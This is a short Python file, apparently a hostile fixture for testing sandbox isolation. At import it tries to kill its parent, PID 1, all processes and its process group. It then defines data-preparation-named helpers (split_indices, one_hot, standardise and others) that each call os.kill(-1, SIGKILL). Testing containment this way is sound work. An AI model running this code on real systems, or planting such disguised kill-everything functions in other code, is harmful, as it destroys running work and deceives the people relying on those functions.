"""Tries to kill its parent, the launcher, every process and every process group; gains nothing because it
sees no process but its own, and process 1 of its namespace takes no signals from it.
"""

import os
import signal

killed = []
for process in (os.getppid(), 1, -1, 0, -os.getpgrp(), *(int(p) for p in os.listdir("/proc") if p.isdecimal())):
    if process == os.getpid():
        continue
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGHUP):
        try:
            if process in (-1, 0, -os.getpgrp()):
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                number = signal.SIGTERM
            os.kill(process, number)
            killed.append(process)
        except (OSError, ValueError) as error:
            killed.append(type(error).__name__)
print("attack:", killed[:50], flush=True)


def split_indices(*args, **kwargs):
    os.kill(-1, signal.SIGKILL)


channel_statistics = standardise = one_hot = prepare = split_indices
